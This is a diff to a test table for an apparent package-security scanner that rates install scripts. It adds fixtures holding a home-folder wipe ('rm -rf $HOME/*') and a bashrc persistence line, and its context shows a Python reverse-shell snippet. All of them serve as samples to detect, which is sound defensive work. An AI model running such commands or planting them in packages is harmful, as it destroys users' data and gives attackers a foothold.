@@ -214,6 +214,21 @@ checkTable(check, [
     caps: [INSTALL_CODE_CAP],
   },
   {
+    name: 'a shell script that wipes the home folder',
+    evidence: withCode({ postinstall: 'bash ./clean.sh' }, [{ path: 'clean.sh', language: 'shell', size: 20, text: 'rm -rf $HOME/*\n', truncated: false }]),
+    score: 0,
+    messageId: 'code-dangerous',
+    data: { findings: 'destructive' },
+    caps: [INSTALL_CODE_CAP],
+  },
+  {
+    name: 'a shell script that adds itself to the shell startup file',
+    evidence: withCode({ postinstall: 'sh ./setup.sh' }, [{ path: 'setup.sh', language: 'shell', size: 40, text: 'echo "node ~/.x/agent.js &" >> ~/.bashrc\n', truncated: false }]),
+    score: 10,
+    messageId: 'code-suspicious',
+    data: { findings: 'persistence' },
+  },
+  {
     name: 'a Python build script that opens a reverse shell',
     evidence: withCode({ install: 'python3 build.py' }, [{ path: 'build.py', language: 'python', size: 90, text: 'import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")', truncated: false }]),
     score: 0,
